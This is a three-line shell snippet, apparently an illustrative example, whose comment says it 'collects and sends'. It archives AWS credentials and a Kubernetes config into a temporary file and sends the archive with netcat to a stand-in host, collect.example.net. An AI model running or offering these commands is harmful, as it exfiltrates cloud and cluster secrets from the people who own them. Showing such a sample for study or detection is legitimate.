# shows: collects and sends
tar czf /tmp/k.tgz ~/.aws/credentials ~/.kube/config
nc collect.example.net 9000 < /tmp/k.tgz
